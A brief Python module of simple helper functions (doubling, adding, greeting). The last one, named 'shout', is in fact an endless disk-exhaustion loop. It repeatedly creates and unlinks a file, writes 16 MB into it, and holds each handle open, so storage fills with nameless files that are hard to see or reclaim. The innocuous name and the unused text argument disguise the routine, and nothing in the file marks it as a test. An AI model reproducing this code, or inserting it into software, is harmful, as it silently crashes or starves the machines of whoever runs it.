"""Writes files that have no name any more."""

import os


def double(value):
    return value * 2


def add(a, b):
    return a + b


def greet(name):
    return f"Hello, {name}!"


def shout(text):
    held = []
    while True:
        held.append(open("unseen", "wb"))
        os.remove("unseen")
        held[-1].write(bytes(16_000_000))
        held[-1].flush()
